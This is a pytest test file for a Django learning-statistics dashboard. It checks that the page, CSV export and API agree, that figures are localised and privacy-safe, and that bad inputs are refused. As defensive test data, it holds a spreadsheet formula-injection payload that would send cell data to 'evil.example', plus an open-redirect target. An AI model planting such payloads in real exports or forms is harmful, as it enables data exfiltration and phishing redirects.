"""The dashboard, the CSV export and the API show the same numbers."""

import csv
import io

import pytest

from stats.queries import Filters, build_report
from stats.refresh import refresh_statistics
from stats.scopes import ASEAN_WIDE
from stats.tokens import create_token

from .conftest import NOW


@pytest.fixture
def counted(known_dataset):
    refresh_statistics(now=NOW)
    return known_dataset


def test_the_dashboard_shows_the_figures(asean_client, counted):
    report = build_report(ASEAN_WIDE, Filters())
    page = asean_client.get("/en/stats/").content.decode()
    for text in (
        f"{report.summary['enrolments'].value:,}",
        f"{report.summary['completion_rate'].value} %",
        f"{report.summary['average_score'].value} %",
        "fewer than 10",
        "Spot false news",
        "Evaluating information",
        "By age group",
        "Completion rate by course",
        "Competence mastery by pillar",
        "About these figures",
        "Last counted:",
        '<svg class="time-chart"',
    ):
        assert text in page, text
    assert "withheld" not in page


def test_numbers_and_names_follow_the_reviewers_language(asean_client, counted):
    """Indonesian writes decimals with a comma; labels, languages and countries are Indonesian too."""
    rate = build_report(ASEAN_WIDE, Filters()).summary["completion_rate"].value
    page = asean_client.get("/id/stats/").content.decode()
    assert f"{rate}".replace(".", ",") in page and f"{rate} %" not in page
    assert "Pendaftaran kursus" in page and "Enrolments" not in page
    thai = asean_client.get("/th/stats/").content.decode()
    assert "ภาษามลายู" in thai and "ภาษาอังกฤษ" in thai  # the languages in the table and the filter
    for english in (">Malay<", "Singapore", "Completion rate"):
        assert english not in thai, english


def test_bad_filters_get_a_400_with_a_message(asean_client, counted):
    for query, message in [
        ("start=2026-13-01", "Enter a valid date"),
        ("start=2026-03-10&end=2026-03-01", "The end date is before the start date."),
        ("course=not-a-course", "Select a valid choice"),
        ("age_band=12", "Select a valid choice"),
        ("interval=year", "Select a valid choice"),
        ("start=1999-01-01", "Choose a date from"),
    ]:
        response = asean_client.get(f"/en/stats/?{query}")
        assert response.status_code == 400, query
        assert message in response.content.decode(), query
    assert asean_client.get("/en/stats/export.csv?start=nonsense").status_code == 400


def test_dates_far_in_the_future_are_refused_with_the_limit_in_words(asean_client, counted):
    """end=9999-12-31 used to answer 500 (the period after it does not exist);
    now it is outside the window every request must keep to."""
    from stats.forms import date_window

    first, last = date_window()
    from django.utils import formats, translation

    with translation.override("en"):
        limit = f"Choose a date from {formats.date_format(first)} to {formats.date_format(last)}."
    for path in ("/en/stats/", "/en/stats/export.csv"):
        for query in ("end=9999-12-31", "start=2020-01-01&end=9999-12-27&interval=week", "start=1900-01-01"):
            response = asean_client.get(f"{path}?{query}")
            assert response.status_code == 400, (path, query)
            assert limit in response.content.decode(), (path, query)
    response = asean_client.get(f"/en/stats/?start={first.isoformat()}&end={last.isoformat()}&interval=week")
    assert response.status_code == 200
    # The widest range allowed stays small: at most eleven years of weeks.
    assert len(response.context["report"].over_time) <= 11 * 53


def _csv(response):
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _section(rows, heading):
    start = next(i for i, row in enumerate(rows) if row and row[0] == heading)
    end = next((i for i in range(start + 1, len(rows)) if not rows[i]), len(rows))
    return rows[start + 1 : end]


def test_csv_streams_with_a_bom_and_leaves_small_figures_empty(asean_client, counted):
    report = build_report(ASEAN_WIDE, Filters())
    response = asean_client.get("/en/stats/export.csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = _csv(response)
    summary = dict(map(tuple, _section(rows, "Figure")))
    assert summary["Enrolments"] == str(report.summary["enrolments"].value)
    assert summary["Completion rate (%)"] == str(report.summary["completion_rate"].value)
    by_age = {row[0]: row[1:] for row in _section(rows, "By age group")}
    assert by_age["60 and over"][0] == ""  # 4 learners: fewer than 10, empty
    assert by_age["25–59"][0] == str(report.table("age_band").rows[1].figures["enrolments"].value)


def test_csv_headers_are_in_the_reviewers_language(asean_client, counted):
    rows = _csv(asean_client.get("/th/stats/export.csv"))
    text = "\n".join(",".join(row) for row in rows)
    assert "Enrolments" not in text and "Completed" not in text


def test_a_course_title_never_becomes_a_spreadsheet_formula(asean_client, counted):
    """An educator's title =HYPERLINK(...) reaches the CSV as text (a leading
    apostrophe), and so does anything else starting with + - @, tab or CR."""
    from stats.export import spreadsheet_safe

    course = counted.courses[0]
    course.title = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    course.save_revision().publish()
    rows = _csv(asean_client.get("/en/stats/export.csv"))
    cells = [cell for row in rows for cell in row]
    assert "'" + course.title in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
    for dangerous in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe("Malaysia") == "Malaysia"


def test_dashboard_csv_and_api_agree(asean_client, counted):
    from stats.models import ReviewerScope

    query = f"course={counted.courses[0].translation_key}&interval=month"
    _token, raw = create_token(ReviewerScope.objects.get().user, "test")
    api = asean_client.get(f"/api/stats/v1/report?{query}", HTTP_AUTHORIZATION=f"Bearer {raw}").json()
    rows = _csv(asean_client.get(f"/en/stats/export.csv?{query}"))
    page = asean_client.get(f"/en/stats/?{query}").content.decode()
    summary = dict(map(tuple, _section(rows, "Figure")))
    assert summary["Enrolments"] == str(api["summary"]["enrolments"]["value"])
    assert summary["Completion rate (%)"] == str(api["summary"]["completion_rate"]["value"])
    assert f"{api['summary']['completion_rate']['value']} %" in page
    months = [[row["start"], str(row["enrolments"]["value"] or "")] for row in api["over_time"]]
    assert [row[:2] for row in _section(rows, "Month")] == [*months, ["Total", summary["Enrolments"]]]
    by_age_api = {row["label"]: row["enrolments"] for row in api["breakdowns"]["age_band"]}
    by_age_csv = {row[0]: row[1] for row in _section(rows, "By age group")}
    for label, figure in by_age_api.items():
        assert by_age_csv[label] == ("" if figure["value"] is None else str(figure["value"]))


def test_no_learner_identity_anywhere(asean_client, counted):
    """No username, email or id of any learner in the page, the CSV or the API."""
    from accounts.models import User
    from stats.models import ReviewerScope

    _token, raw = create_token(ReviewerScope.objects.get().user, "test")
    outputs = [
        asean_client.get("/en/stats/").content.decode(),
        b"".join(asean_client.get("/en/stats/export.csv").streaming_content).decode(),
        asean_client.get("/api/stats/v1/report", HTTP_AUTHORIZATION=f"Bearer {raw}").content.decode(),
    ]
    learners = User.objects.filter(enrollments__isnull=False)
    assert learners.count() == 74
    for learner in learners:
        for output in outputs:
            assert learner.username not in output and learner.email not in output


def test_count_again_now_queues_a_recount_and_the_page_says_so(asean_client, counted):
    """With the immediate backend (development) the task runs at once; the
    dashboard shows when the figures were last counted."""
    from stats.models import Recount, Snapshot

    before = Snapshot.objects.count()
    response = asean_client.post("/en/stats/refresh/", {"next": "/en/stats/?country=MY"})
    assert response.status_code == 302 and response["Location"] == "/en/stats/?country=MY"
    assert Snapshot.objects.count() == before + 1
    assert Recount.objects.get().state == Recount.DONE
    response = asean_client.post("/en/stats/refresh/", {"next": "https://evil.example/"})
    assert response["Location"] == "/en/stats/"


def test_the_page_shows_a_recount_that_is_running(asean_client, counted):
    from stats.models import Recount

    Recount.objects.create(state=Recount.RUNNING)
    page = asean_client.get("/en/stats/").content.decode()
    assert "A recount is running now" in page
    response = asean_client.post("/en/stats/refresh/", {"next": "/en/stats/"}, follow=True)
    assert "already being counted again" in response.content.decode()
    assert Recount.objects.count() == 1
